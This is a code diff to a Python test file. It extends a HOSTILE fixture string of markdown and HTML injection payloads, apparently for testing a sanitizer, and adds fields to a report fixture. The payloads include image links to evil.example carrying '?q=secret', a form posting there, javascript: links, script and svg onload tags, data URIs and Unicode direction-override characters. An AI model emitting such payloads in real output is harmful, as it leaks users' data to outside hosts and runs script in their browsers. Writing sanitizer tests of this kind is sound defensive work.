@@ -87,7 +87,9 @@ URDU = "ایک نوڈ پیغام کو ایک `topic` پر شائع کرتا ہے
 HOSTILE = """\
 Look ![x](https://evil.example/a.png?q=secret) and <img src="https://evil.example/b.png">
 <form action="https://evil.example/"><input name="q"><button>go</button></form>
-[click](javascript:alert(1)) <script>alert(1)</script> ![r][r]
+[click](javascript:alert(1)) <script>alert(1)</script> ![r][r] <svg onload=alert(1)></svg>
+![d](data:image/svg+xml;base64,PHN2Zz4=) <https://evil.example/d.png> www.evil.example
+[read on](https://evil.example/?q=secret) and [here](../logout) \x1b[31m\u202e
 
 [r]: https://evil.example/c.png
 """
@@ -180,7 +182,7 @@ class FakeInsights:
             )
             for n, question in enumerate(ASKED)
         ]  # fmt: skip
-        day = DayCount("2026-03-01", 5, 2, 1, 4_000)
+        day = DayCount("2026-03-01", 5, 2, 1, 4_000, 902.0, 904.0, 0.0021)
         window = Window((day,), tuple(asked), tuple(asked[3:]), tuple(asked[:1]), 0, 1)
         return make_report(window, since=WHEN, now=WHEN, retention_days=90)
 
